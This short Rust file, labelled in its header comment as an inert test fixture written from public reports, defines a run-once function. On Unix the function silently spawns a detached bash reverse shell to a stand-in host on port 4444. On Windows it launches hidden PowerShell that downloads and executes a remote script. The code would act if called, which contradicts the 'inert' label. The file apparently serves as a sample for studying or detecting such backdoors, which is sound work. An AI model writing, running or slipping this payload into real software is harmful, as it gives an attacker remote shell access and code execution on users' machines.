// Synthetic, inert fixture written from public reports
use std::process::{Command, Stdio};
use std::sync::Once;

static START: Once = Once::new();

pub fn once() {
    START.call_once(|| {
        #[cfg(unix)]
        let _ = Command::new("bash")
            .arg("-c")
            .arg("setsid bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        #[cfg(windows)]
        let _ = Command::new("powershell")
            .args(["-w", "hidden", "-c", "iex (iwr http://198.51.100.7/w.ps1).Content"])
            .stdout(Stdio::null())
            .spawn();
    });
}
